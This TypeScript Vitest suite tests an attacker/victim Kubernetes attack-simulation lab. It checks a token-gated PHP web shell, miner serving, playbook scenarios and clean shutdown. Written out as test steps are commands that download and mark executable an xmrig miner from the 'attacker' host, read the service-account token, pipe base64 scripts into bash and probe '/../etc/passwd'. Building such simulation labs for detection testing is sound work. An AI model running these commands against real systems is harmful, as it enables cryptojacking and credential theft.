// What charts/simulation and the playbooks need of a pair of images; held by our own and by the official one.
import { env } from 'node:process';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { connectCluster } from '../../src/adapters/kubernetes/connect.ts';
import { mismatch } from '../../src/language/matcher.ts';
import { modes, readPlaybook, requestsOf } from '../playbooks/requests.ts';
import { scenarios } from '../playbooks/scenarios.ts';
import { type Deployment, deploy, type ImagePair, type Role } from './deployment.ts';

/** Registers the suite; `onLab`: also what only the lab answers (its metadata service and its threat-intelligence domain). */
export function imagePairContract(kubeconfig: string, pair: ImagePair, { onLab }: { onLab: boolean }): void {
  let pods: Deployment;
  beforeAll(async () => {
    pods = await deploy(await connectCluster({ kubeconfig, env }), pair);
  }, 120_000);
  afterAll(() => pods?.remove(), 60_000);

  const shell = (role: Role, script: string): Promise<string> => pods.exec(role, ['sh', '-c', script]).then(({ stdout }) => stdout.trim());

  test.each([
    ['attacker', ['sh', 'bash', 'curl', 'python3', '/simulation/xmrig']],
    [
      'victim',
      [
        'sh',
        'bash',
        'base64',
        'curl',
        'nmap',
        'find',
        'cat',
        'head',
        'wc',
        'grep',
        'touch',
        'chmod',
        'whoami',
        'php-fpm',
        'nginx',
        '/sbin/modprobe',
      ],
    ],
  ] as const)('the %s has every program that is used there', async (role, programs) => {
    const missing = await shell(role, `for name in ${programs.join(' ')}; do command -v $name > /dev/null || echo $name; done`);
    expect(missing).toBe('');
  });

  test('the grep of the victim knows Perl patterns', async () => {
    expect(await shell('victim', `echo '{"status":{"a":1}}' | grep -Po '"status":\\{\\K.*?(?=\\})'`)).toBe('"a":1');
  });

  test.each([
    ['no token', ''],
    ['a wrong token', 'f'.repeat(32)],
  ])('with %s the web shell says 403 and runs nothing', async (_, token) => {
    expect((await pods.webShell('touch /var/www/html/proof', token)).status).toBe(403);
    expect(await shell('victim', 'test -e /var/www/html/proof && echo ran')).toBe('');
  });

  test('with the token it runs the command as user nginx, marked with the run, without the token in its environment', async () => {
    const { status, body } = await pods.webShell('whoami; pwd; echo "run=$SIM_RUN"; env');
    expect(status).toBe(200);
    expect(body.split('\n').slice(0, 3)).toEqual(['nginx', '/var/www/html', `run=${pods.id}`]);
    expect(body).not.toContain(pods.token);
    expect((await pods.webShell('')).status).toBe(400);
  });

  test('a command of 30 KiB arrives whole', async () => {
    expect((await pods.webShell(`printf %s ${'x'.repeat(30 * 1024)} | wc -c`)).body.trim()).toBe(String(30 * 1024));
  });

  test('the process tree is php-fpm, sh -c, bash', async () => {
    const script =
      'pid=$$; while test $pid -gt 1; do tr "\\0" " " < /proc/$pid/cmdline; echo; pid=$(sed -n "s/^PPid:\\t//p" /proc/$pid/status); done';
    const command = `echo ${Buffer.from(script).toString('base64')}| base64 -d| bash -s sim-${pods.id}`;
    const [bash, sh, worker, master, ...more] = (await pods.webShell(command)).body
      .trim()
      .split('\n')
      .map((line) => line.trim());
    expect(bash).toBe(`bash -s sim-${pods.id}`);
    expect(sh).toBe(`sh -c ${command}`);
    expect(worker).toMatch(/^php-fpm: pool web/);
    expect(master).toMatch(/^php-fpm: master process/);
    expect(more).toEqual([]);
  });

  test('the attacker serves the miner and nothing else', async () => {
    const status = (path: string): Promise<string> =>
      shell('victim', `curl -s --path-as-is -o /dev/null -w '%{http_code}' http://attacker${path}`);
    expect(await status('/xmrig')).toBe('200');
    for (const path of ['/', '/attack.sh', '/../etc/passwd', '/xmrig/']) expect(await status(path), path).toBe('404');
  });

  test('an orphan is reaped', async () => {
    await pods.webShell('(sleep 0.2 > /dev/null 2>&1 &)');
    await shell('attacker', '(sleep 0.2 > /dev/null 2>&1 &)');
    for (const role of ['attacker', 'victim'] as const) {
      const states = await shell(role, 'sleep 1; cat /proc/[0-9]*/stat | sed "s/.*) \\(.\\).*/\\1/" | sort -u | tr -d "\\n"');
      expect(states, role).not.toContain('Z');
    }
  });

  describe.each(scenarios.flatMap(({ name }) => modes.map((mode) => ({ name, mode }))))('$name, $mode', ({ name, mode }) => {
    const needsLab = ['lateral-movement', 'threat-intelligence-domain'].includes(name);
    test.skipIf(needsLab && !onLab)('each effect check holds, and no secret comes back', { timeout: 120_000 }, async () => {
      const serviceAccountToken = await shell('victim', 'cat /var/run/secrets/kubernetes.io/serviceaccount/token');
      expect(serviceAccountToken).toMatch(/^ey/);
      const run = { id: pods.id, token: pods.token };
      for (const request of requestsOf(readPlaybook(name), mode, run)) {
        const { status, body } = await pods.webShell(request.command);
        expect(status, request.id).toBe(200);
        expect(mismatch('body', request.expect.body, body), request.id).toBeUndefined();
        expect(body, request.id).not.toContain('SIMLAB-CANARY-TOKEN');
        expect(body, request.id).not.toContain(serviceAccountToken.slice(0, 20));
        expect(body, request.id).not.toContain('user:pass');
      }
    });
  });

  test('the miner that runs is a file of the container, not of its image or of a volume', async () => {
    await pods.webShell('curl -sO http://attacker/xmrig; chmod +x xmrig');
    expect(await shell('victim', 'grep -c " /var/www/html " /proc/self/mountinfo; test -x /var/www/html/xmrig && echo there')).toBe(
      '0\nthere',
    );
  });

  test.each(['attacker', 'victim'] as const)('the %s ends with exit code 0 when it is told to', async (role) => {
    // The exec ends with the container, so its own answer may be lost.
    await pods.exec(role, ['sh', '-c', 'kill -TERM 1']).catch(() => undefined);
    expect(await pods.ended(role)).toBe(0);
  });

  test.each(['nginx', 'php-fpm'])('the victim ends with exit code 1 when %s dies', { timeout: 60_000 }, async (server) => {
    await pods.renew('victim');
    await shell('victim', `kill -KILL $(grep -l '^${server}: master' /proc/[0-9]*/cmdline | cut -d/ -f3)`).catch(() => undefined);
    expect(await pods.ended('victim')).toBe(1);
  });
}
